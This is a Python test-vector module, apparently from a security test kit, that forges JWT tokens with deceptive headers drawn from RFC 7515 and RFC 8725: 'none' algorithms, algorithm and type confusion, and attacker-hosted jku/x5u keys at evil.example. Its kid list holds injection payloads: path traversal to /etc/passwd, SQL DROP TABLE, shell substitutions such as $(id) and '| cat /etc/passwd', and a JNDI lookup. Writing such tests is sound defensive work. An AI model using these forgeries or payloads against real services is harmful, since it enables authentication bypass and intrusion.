"""Tokens whose header lies: about algorithm, key, type, or what must be understood (RFC 7515, RFC 8725)."""

import itertools
from functools import cache
from typing import Any

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from testkit.hostile.forger import MISSING, Forger, Make, base64url, using

NONE_SPELT = ["".join(letters) for letters in itertools.product("nN", "oO", "nN", "eE")]
ALGORITHMS = [
    *("HS256", "HS384", "HS512", "RS256", "RS384", "RS512", "ES256", "ES384", "ES512", "ES256K"),
    *("PS256", "PS384", "PS512", "RSA-OAEP", "RSA1_5", "dir", "A128KW", "ECDH-ES", "PBES2-HS256+A128KW"),
    *("eddsa", "EDDSA", "EdDsa", "Eddsa", "Ed25519", "ed25519", "Ed448", "Ed25519ph", "EdDSA ", " EdDSA", "EdDSA\0"),
    *("EdDSA\n", "\u0415dDSA", "EdDSA,none", "none,EdDSA", "EdDSA;none", "SHA256", "unsecured", "null", "-8", "*"),
    "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
]
NO_TEXT: dict[str, Any] = {
    "missing": MISSING,
    "null": None,
    "empty": "",
    "number": 1,
    "zero": 0,
    "fraction": 0.5,
    "true": True,
    "false": False,
    "empty list": [],
    "object": {"$ne": "x"},
}
TYPES = [
    *("JWT", "jwt", "Jwt", "JOSE", "JOSE+JSON", "at", "at+", "+jwt", "at jwt", "at-jwt", "at+jwt ", " at+jwt"),
    *("AT+JWT", "at+JWT", "At+Jwt", "at+jwt\0", "at+jwt\n", "at+jwt;v=1", "at+jwt,JWT", "JWT,at+jwt", "at+jwt+x"),
    *("application/at+jwt", "application/jwt", "application/AT+JWT", "text/at+jwt", "*/*", "at%2Bjwt", "\u0430t+jwt"),
    *("id+jwt", "rt+jwt", "logout+jwt", "dpop+jwt", "secevent+jwt", "token-introspection+jwt", "vc+sd-jwt", "x" * 500),
]
KEY_IDS = [
    *("2020-z", "*", "default", "../../dev/null", "/dev/null", "....//....//etc/passwd", "C:\\Windows\\win.ini"),
    *("file:///dev/null", "http://127.0.0.1:9/keys", "https://evil.example/keys", "//evil.example/keys", "data:,x"),
    *("' UNION SELECT 'x'--", "1' OR '1'='1", "x'; DROP TABLE signing_key;--", '" OR ""="', "*)(uid=*", "$where: 1"),
    *("| cat /etc/passwd", "$(id)", "`id`", "; sleep 9", "${jndi:ldap://evil.example/x}", "{{7*7}}", "<!ENTITY x>"),
    *("__proto__", "constructor", "a\0b", "%00", "a\r\nX-Injected: 1", "\ud800", "\U0001f511", "\u202ekid", "k" * 2000),
]
OWN_FIELDS: dict[str, Any] = {
    "jwk": {"kty": "OKP", "crv": "Ed25519", "x": "11qYAYKxCrfVS_7TyWQHOg7hcvPapiMlrwIaaPcHURo"},
    "jwk null": None,
    "jku": "https://evil.example/keys",
    "jku on this host": "http://127.0.0.1/.well-known/jwks.json",
    "jku of a file": "file:///etc/passwd",
    "x5u": "https://evil.example/certificate",
    "x5c": ["MIIBdzCCASmgAwIBAgIUZ2FyYmFnZQ"],
    "x5t": "dGh1bWJwcmludA",
    "x5t#S256": "dGh1bWJwcmludC1vZi0zMi1ieXRlcy1pbi1sZW5ndGg",
    "cty": "JWT",
    "zip": "DEF",
    "zip of another kind": "GZIP",
    "enc": "A256GCM",
    "epk": {"kty": "OKP", "crv": "X25519", "x": "3p7bfXt9wbTTW2HC7OQ1Nz-DQ8hbeGdNrfx-FG-IK08"},
    "apu": "QWxpY2U",
    "apv": "Qm9i",
    "iv": "AAAAAAAAAAAAAAAA",
    "tag": "AAAAAAAAAAAAAAAAAAAAAA",
    "p2s": "c2FsdA",
    "p2c": 2_000_000_000,
    "b64 true": True,
    "url": "https://evil.example/",
    "nonce": "n-0S6_WzA2Mj",
    "iss": "taskloom",
    "sub": "admin",
    "exp": 4_000_000_000,
    "ppt": "shaken",
    "svt": ["x"],
    "key": "secret",
    "ALG": "none",
    "Kid": "x",
    "": "a field without a name",
}
CRITICAL: dict[str, dict[str, Any]] = {
    "empty": {"crit": []},
    "null": {"crit": None},
    "a text": {"crit": "exp"},
    "an object": {"crit": {"exp": 1}},
    "numbers": {"crit": [1]},
    "exp": {"crit": ["exp"], "exp": 4_000_000_000},
    "exp that is missing": {"crit": ["exp"]},
    "alg": {"crit": ["alg"]},
    "typ and kid": {"crit": ["typ", "kid"]},
    "twice the same": {"crit": ["exp", "exp"], "exp": 1},
    "a field of appendix E": {
        "crit": ["http://example.com/UNDEFINED"],
        "http://example.com/UNDEFINED": True,
    },
    "itself": {"crit": ["crit"]},
    "an empty name": {"crit": [""]},
    "deep": {"crit": [[["exp"]]]},
}


@cache
def stranger() -> Ed25519PrivateKey:
    """Return a key that nobody has published: the private key of RFC 8037, appendix A.1."""
    return Ed25519PrivateKey.from_private_bytes(
        bytes.fromhex("9d61b19deffd5a60ba844af492ec2cc44449c5697b326919703bac031cae7f60")
    )


def _by_stranger(**header: Any) -> Make:
    return lambda f: f.signed(f.header(**header), f.claims(), key=stranger())


def _with(field: str, value: Any) -> Make:
    return lambda f: f.token({field: value})


def _algorithms() -> dict[str, Make]:
    vectors: dict[str, Make] = {
        f"RFC 8725 2.1 alg {spelt}, unsecured": using(lambda f, a: f.sealed(lambda _: b"", f.header(alg=a)), spelt)
        for spelt in NONE_SPELT
    }
    for spelt in ("none", "None", "NONE", "nOnE"):
        vectors[f"RFC 8725 2.1 alg {spelt}, signed all the same"] = _with("alg", spelt)
        vectors[f"RFC 8725 2.1 alg {spelt} alone in its header"] = using(
            lambda f, a: f.sealed(lambda _: b"", {"alg": a}), spelt
        )
    for spelt in ("none ", " none", "none\0", "n\u043ene", "undefined", "null", "plaintext"):
        vectors[f"RFC 8725 2.1 alg {spelt!a}, unsecured"] = using(
            lambda f, a: f.sealed(lambda _: b"", f.header(alg=a)), spelt
        )
    vectors["RFC 7519 6 alg missing, unsecured"] = lambda f: f.sealed(lambda _: b"", f.header(alg=MISSING))
    for algorithm in ALGORITHMS:
        vectors[f"RFC 8725 3.1 alg says {algorithm!a}"] = _with("alg", algorithm)
    for name, value in NO_TEXT.items():
        vectors[f"RFC 7515 4.1.1 alg: {name}"] = _with("alg", value)
    for listed in (["EdDSA"], ["none", "EdDSA"], [["EdDSA"]]):
        vectors[f"RFC 7515 4.1.1 alg: {listed}"] = _with("alg", listed)
    return vectors


def _types() -> dict[str, Make]:
    return {
        **{f"RFC 8725 3.11 typ says {name[:40]!a}": _with("typ", name) for name in TYPES},
        **{f"RFC 7515 4.1.9 typ: {name}": _with("typ", value) for name, value in NO_TEXT.items()},
        "RFC 7515 4.1.9 typ: a list": lambda f: f.token({"typ": [f.typ]}),
        "RFC 7515 4.1.9 typ: an object": lambda f: f.token({"typ": {f.typ: 1}}),
        "RFC 8725 3.12 typ of the other kind of token": lambda f: f.token({"typ": f.other_typ}),
        "RFC 8725 3.12 a whole token of the other kind": lambda f: f.token(
            {"typ": f.other_typ}, iss=f.other_issuer, aud=f.other_audience
        ),
        "RFC 8725 3.12 the other kind's names with our typ": lambda f: f.token(
            iss=f.other_issuer, aud=f.other_audience
        ),
    }


def _key_ids() -> dict[str, Make]:
    near = {
        "with NUL": lambda kid: f"{kid}\0",
        "with a space after": lambda kid: f"{kid} ",
        "with a space before": lambda kid: f" {kid}",
        "with a line end": lambda kid: f"{kid}\n",
        "below a folder": lambda kid: f"../{kid}",
        "twice": lambda kid: kid + kid,
        "cut": lambda kid: kid[:-1],
        "in upper case": lambda kid: kid.upper(),
        "in a list": lambda kid: [kid],
        "in an object": lambda kid: {"kid": kid},
        "in quotes": lambda kid: f'"{kid}"',
    }
    return {
        **{f"RFC 8725 3.10 kid {kid[:40]!a}": _with("kid", kid) for kid in KEY_IDS},
        **{f"RFC 7515 4.1.4 kid: {name}": _with("kid", value) for name, value in NO_TEXT.items()},
        **{
            f"RFC 8725 3.10 kid of ours, {name}": using(lambda f, c: f.token({"kid": c(f.kid)}), change)
            for name, change in near.items()
        },
        "R3 kid of a retired key, signed by it": _by_stranger(kid="2019-retired"),
        "RFC 7638 kid is the thumbprint of another key": _by_stranger(
            kid="kPrK_qmxVWaYVA9wwBF6Iuo3vVzz7TxHCTwXBygrS4k"
        ),
    }


def _fields() -> dict[str, Make]:
    def named(name: str) -> str:
        return name.partition(" ")[0] if name != "" else name

    vectors: dict[str, Make] = {
        f"RFC 7515 4.1 header field {name!r}, signed by the right key": _with(named(name), value)
        for name, value in OWN_FIELDS.items()
    }
    for name in ("jwk", "jku", "x5u", "x5c", "x5t", "x5t#S256"):
        vectors[f"RFC 8725 3.10 key of another in {name}"] = _by_stranger(**{name: OWN_FIELDS[name]})
    jwk = OWN_FIELDS["jwk"]
    vectors["RFC 8725 3.10 jwk of another with a kid of its own"] = _by_stranger(jwk=jwk, kid="mine")
    vectors["RFC 8725 3.10 jwk of another without kid"] = _by_stranger(jwk=jwk, kid=MISSING)
    vectors["RFC 8725 3.10 jwk in place of kid"] = _by_stranger(kid=jwk)
    vectors["RFC 8037 2 jwk with its private half"] = _by_stranger(jwk={**jwk, "d": base64url(bytes(32))})
    vectors["RFC 7517 4 jwk of the right key"] = lambda f: f.token({"jwk": {**jwk, "x": base64url(f.public)}})
    for name, fields in CRITICAL.items():
        vectors[f"RFC 7515 4.1.11 crit: {name}"] = using(lambda f, given: f.token(given), fields)
    return vectors


def _duplicates() -> dict[str, Make]:
    def twice(f: Forger, name: str, wrong: str, *, first: bool) -> str:
        good = f'"alg":"EdDSA","typ":"{f.typ}","kid":"{f.kid}"'
        added = f'"{name}":"{wrong}"'
        text = f"{{{added},{good}}}" if first else f"{{{good},{added}}}"
        return f.signed(text.encode(), f.claims())

    vectors: dict[str, Make] = {}
    for name, wrong in (("alg", "none"), ("typ", "JWT"), ("kid", "2020-z"), ("alg", "EdDSA")):
        vectors[f"RFC 7515 4 {name} twice, {wrong} first"] = using(
            lambda f, n, w: twice(f, n, w, first=True), name, wrong
        )
        vectors[f"RFC 7515 4 {name} twice, {wrong} last"] = using(
            lambda f, n, w: twice(f, n, w, first=False), name, wrong
        )
    vectors["RFC 7515 4 alg twice, one name escaped"] = lambda f: twice(f, "\\u0061lg", "none", first=True)
    return vectors


HEADERS: dict[str, Make] = {**_algorithms(), **_types(), **_key_ids(), **_fields(), **_duplicates()}
